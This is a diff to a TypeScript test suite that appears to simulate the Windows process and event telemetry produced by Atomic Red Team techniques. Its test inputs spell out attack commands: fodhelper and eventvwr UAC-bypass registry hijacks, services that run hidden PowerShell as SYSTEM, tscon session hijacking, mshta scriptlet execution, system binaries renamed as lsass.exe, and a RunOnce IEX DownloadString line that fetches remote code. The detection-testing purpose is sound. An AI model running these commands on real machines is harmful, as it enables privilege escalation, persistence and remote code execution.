@@ -11,7 +11,12 @@ describe('followers', () => {
     expect(p[2]!['ParentImage']).toBe('C:\\Windows\\System32\\query.exe');
   });
   it('Add-Type with C# source starts csc.exe, which starts cvtres.exe (T1113 #7); -AssemblyName does not', () => {
-    const p = processes(run('powershell', "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern void mouse_event(int flags, int dx, int dy, int cButtons, int info);' -Name U32 -Namespace W;"));
+    const p = processes(
+      run(
+        'powershell',
+        'Add-Type -MemberDefinition \'[DllImport("user32.dll")] public static extern void mouse_event(int flags, int dx, int dy, int cButtons, int info);\' -Name U32 -Namespace W;',
+      ),
+    );
     expect(p.map(image)).toEqual(['powershell.exe', 'csc.exe', 'cvtres.exe']);
     expect(p[1]!['ParentImage']).toMatch(/powershell\.exe$/);
     expect(String(p[1]!['CommandLine'])).toContain('\\AppData\\Local\\Temp\\');
@@ -19,35 +24,72 @@ describe('followers', () => {
     expect(processes(run('powershell', 'Add-Type -AssemblyName System.Windows.Forms')).map(image)).toEqual(['powershell.exe']);
   });
   it('sc create then sc start runs the service binary as SYSTEM under services.exe, and the install is a 7045 (T1569.002 #1)', () => {
-    const events = run('command_prompt', 'sc.exe create ARTService binPath= "%COMSPEC% /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt"\nsc.exe start ARTService', { elevationRequired: true });
+    const events = run(
+      'command_prompt',
+      'sc.exe create ARTService binPath= "%COMSPEC% /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt"\nsc.exe start ARTService',
+      { elevationRequired: true },
+    );
     const service = processes(events).find((f) => f['ParentImage'] === 'C:\\Windows\\System32\\services.exe');
     expect(String(service?.['Image']).toLowerCase()).toBe('c:\\windows\\system32\\cmd.exe');
     expect(service).toMatchObject({ User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' });
     expect(commandLines(events)).toContain('powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt');
     expect(events.filter((e) => e.logsource.service === 'system').map((e) => e.fields)).toEqual([
-      { EventID: 7045, Provider_Name: 'Service Control Manager', ServiceName: 'ARTService', ImagePath: 'C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
+      {
+        EventID: 7045,
+        Provider_Name: 'Service Control Manager',
+        ServiceName: 'ARTService',
+        ImagePath: 'C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt',
+        ServiceType: 'user mode service',
+        StartType: 'demand start',
+        AccountName: 'LocalSystem',
+      },
     ]);
   });
   it('net start of a service the test created (T1563.002 #1); a driver starts no process (T1564.006 #1)', () => {
-    const p = processes(run('command_prompt', 'sc.exe create sesshijack binpath= "cmd.exe /k tscon 1337 /dest:rdp-tcp#55"\nnet start sesshijack', { elevationRequired: true }));
+    const p = processes(
+      run('command_prompt', 'sc.exe create sesshijack binpath= "cmd.exe /k tscon 1337 /dest:rdp-tcp#55"\nnet start sesshijack', { elevationRequired: true }),
+    );
     expect(p.filter((f) => f['User'] === 'NT AUTHORITY\\SYSTEM').map(image)).toEqual(['cmd.exe', 'tscon.exe']);
-    const driver = processes(run('command_prompt', 'sc create VBoxDRV binpath= "C:\\Program Files\\Oracle\\VirtualBox\\drivers\\VboxDrv.sys" type= kernel start= auto\nsc start VBoxDRV'));
+    const driver = processes(
+      run(
+        'command_prompt',
+        'sc create VBoxDRV binpath= "C:\\Program Files\\Oracle\\VirtualBox\\drivers\\VboxDrv.sys" type= kernel start= auto\nsc start VBoxDRV',
+      ),
+    );
     expect(driver.filter((f) => f['User'] === 'NT AUTHORITY\\SYSTEM')).toEqual([]);
   });
   it('fodhelper runs the command planted under ms-settings, at High integrity (T1548.002 #3)', () => {
-    const p = processes(run('command_prompt', 'reg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\nreg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /v "DelegateExecute" /f\nfodhelper.exe'));
+    const p = processes(
+      run(
+        'command_prompt',
+        'reg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\nreg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /v "DelegateExecute" /f\nfodhelper.exe',
+      ),
+    );
     const child = p.find((f) => String(f['ParentImage']).toLowerCase().endsWith('fodhelper.exe'));
     expect(child).toMatchObject({ Image: 'C:\\Windows\\System32\\cmd.exe', IntegrityLevel: 'High' });
   });
   it('eventvwr.msc opened through a planted mscfile verb runs the planted command (T1548.002 #1)', () => {
-    const p = processes(run('command_prompt', 'reg.exe add hkcu\\software\\classes\\mscfile\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\ncmd.exe /c eventvwr.msc'));
+    const p = processes(
+      run(
+        'command_prompt',
+        'reg.exe add hkcu\\software\\classes\\mscfile\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\ncmd.exe /c eventvwr.msc',
+      ),
+    );
     expect(p.map(image)).not.toContain('mmc.exe');
     expect(p.map(image).filter((n) => n === 'cmd.exe').length).toBe(3);
   });
   it('mshta inline VBScript runs the command it passes to WScript.Shell.Run (T1218.005 #2)', () => {
-    const p = processes(run('command_prompt', 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1"":close")'));
+    const p = processes(
+      run(
+        'command_prompt',
+        'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1"":close")',
+      ),
+    );
     const child = p.find((f) => String(f['ParentImage']).endsWith('mshta.exe'));
-    expect(child).toMatchObject({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1' });
+    expect(child).toMatchObject({
+      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      CommandLine: 'powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1',
+    });
   });
   it('SyncAppvPublishingServer.vbs runs its argument in powershell.exe (T1216.002 #1)', () => {
     const events = run('command_prompt', 'C:\\windows\\system32\\SyncAppvPublishingServer.vbs "\\n;Start-Process calc"');
@@ -62,8 +104,15 @@ describe('fields', () => {
   it('a renamed copy of cmd.exe keeps its version information (cmd copy and Copy-Item)', () => {
     const viaCmd = processes(run('command_prompt', 'copy %SystemRoot%\\System32\\cmd.exe %TEMP%\\lsass.exe\n%TEMP%\\lsass.exe /c whoami'));
     const lsass = viaCmd.find((f) => String(f['Image']).endsWith('\\lsass.exe'));
-    expect(lsass).toMatchObject({ Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\lsass.exe', OriginalFileName: 'Cmd.Exe', Description: 'Windows Command Processor', Company: 'Microsoft Corporation' });
-    const viaPs = processes(run('powershell', 'Copy-Item -Path C:\\Windows\\System32\\cmd.exe -Destination $env:TEMP\\svchost.exe\n& "$env:TEMP\\svchost.exe" /c whoami'));
+    expect(lsass).toMatchObject({
+      Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\lsass.exe',
+      OriginalFileName: 'Cmd.Exe',
+      Description: 'Windows Command Processor',
+      Company: 'Microsoft Corporation',
+    });
+    const viaPs = processes(
+      run('powershell', 'Copy-Item -Path C:\\Windows\\System32\\cmd.exe -Destination $env:TEMP\\svchost.exe\n& "$env:TEMP\\svchost.exe" /c whoami'),
+    );
     expect(viaPs.find((f) => String(f['Image']).endsWith('\\svchost.exe'))?.['OriginalFileName']).toBe('Cmd.Exe');
   });
   it('a program that is not a copy has no borrowed metadata; a downloaded tool has its own', () => {
@@ -87,13 +136,28 @@ describe('review fixes', () => {
     const { tmpdir } = await import('node:os');
     const path = await import('node:path');
     const dir = mkdtempSync(path.join(tmpdir(), 'atlas-sct-'));
-    writeFileSync(path.join(dir, 'mshta.sct'), '<scriptlet><script language="JScript"><![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("powershell -c \\"write-host \'ok\'\\""); ]]></script></scriptlet>');
+    writeFileSync(
+      path.join(dir, 'mshta.sct'),
+      '<scriptlet><script language="JScript"><![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("powershell -c \\"write-host \'ok\'\\""); ]]></script></scriptlet>',
+    );
     writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/mshta.sct': { file: 'mshta.sct' } }));
-    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: "mshta.exe javascript:a=GetObject('script:https://h/mshta.sct').Exec();close()" }, PayloadStore.open(dir, undefined));
+    const run = simulateTest(
+      {
+        guid: 'g',
+        platforms: ['windows'],
+        executor: 'command_prompt',
+        elevationRequired: false,
+        commandResolved: "mshta.exe javascript:a=GetObject('script:https://h/mshta.sct').Exec();close()",
+      },
+      PayloadStore.open(dir, undefined),
+    );
     expect(processes(run.events).find((f) => String(f['ParentImage']).endsWith('mshta.exe'))?.['CommandLine']).toBe('powershell -c "write-host \'ok\'"');
   });
   it('Invoke-Expression inside a string value is not run now (T1547.001 #3: a RunOnce value)', () => {
-    const events = run('powershell', `set-itemproperty $RunOnceKey "NextRun" 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(\`"https://h/Discovery.bat\`")"'`);
+    const events = run(
+      'powershell',
+      `set-itemproperty $RunOnceKey "NextRun" 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(\`"https://h/Discovery.bat\`")"'`,
+    );
     expect(events.some((e) => e.source)).toBe(false);
   });
 });
